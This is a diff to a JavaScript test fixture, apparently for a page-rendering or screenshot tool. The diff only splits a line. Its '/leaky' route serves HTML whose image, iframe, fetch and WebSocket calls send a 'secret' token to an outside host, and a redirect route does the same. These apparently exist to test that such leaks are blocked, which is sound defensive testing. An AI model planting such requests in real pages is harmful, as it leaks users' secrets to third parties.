@@ -32,7 +32,8 @@ beforeAll(async () => {
     if (req.url === '/redirect') return res.writeHead(302, { location: `http://${away}/redirected?t=secret` }).end();
     if (req.url === '/leaky') {
       res.setHeader('content-type', 'text/html');
-      return res.end(`<!doctype html><h1>local</h1><img src="http://${away}/img?t=secret"><iframe src="http://${away}/frame"></iframe>
+      return res.end(`<!doctype html><h1>local</h1><img src="http://${away}/img?t=secret">\
+<iframe src="http://${away}/frame"></iframe>
 <script>fetch('http://${away}/fetch?t=secret').catch(() => {}); new WebSocket('ws://${away}/ws');</script>`);
     }
     // A tall, noisy page: worst case for JPEG size.
